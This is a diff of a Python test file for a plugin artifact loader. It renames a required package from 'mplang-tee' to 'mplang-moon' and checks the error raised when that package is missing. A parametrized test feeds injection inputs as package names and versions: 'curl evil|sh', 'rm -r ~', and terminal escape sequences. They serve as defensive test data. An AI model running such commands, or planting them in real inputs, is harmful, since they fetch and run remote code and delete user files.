@@ -243,18 +243,18 @@ def test_another_device_is_told(simulate):
 
 def needing(distribution: str, version: str) -> bytes:
     found = mp.artifact.load(packed("swap"))
-    needs = mp.artifact.Requirement(distribution, version, ("tee.attest",))
+    needs = mp.artifact.Requirement(distribution, version, ("moon.attest",))
     manifest = msgspec.structs.replace(found.manifest, requirements=(needs,))
     return mp.artifact.Artifact(manifest, found.program).to_bytes()
 
 
 def test_a_package_that_is_missing_is_named_with_its_version():
-    data = needing("mplang-tee", "1.2.3")
-    with pytest.raises(PluginLoadError, match=r"mplang-tee 1\.2\.3 \(tee\.attest\), not here; ask"):
+    data = needing("mplang-moon", "1.2.3")
+    with pytest.raises(PluginLoadError, match=r"mplang-moon 1\.2\.3 \(moon\.attest\), not here; ask"):
         mp.artifact.load(data)
     shown = mp.artifact.inspect(data)
     assert shown.program is None
-    assert "mplang-tee 1.2.3" in str(shown)
+    assert "mplang-moon 1.2.3" in str(shown)
     assert shown.to_dict()["inputs"][0] == {"name": "x", "type": "f64[]@{0}", "literal": None}
 
 
@@ -263,7 +263,7 @@ def test_a_package_that_is_missing_is_named_with_its_version():
     [
         ("mplang-jaxx", "1.0"),
         ("mplang-jaxx; curl evil|sh #\x1b[31m", "1.0"),
-        ("mplang-tee", "1.0'; rm -r ~; '"),
+        ("mplang-moon", "1.0'; rm -r ~; '"),
         ("x\r\n" * 20, "\x1b]0;owned\x07"),
     ],
 )
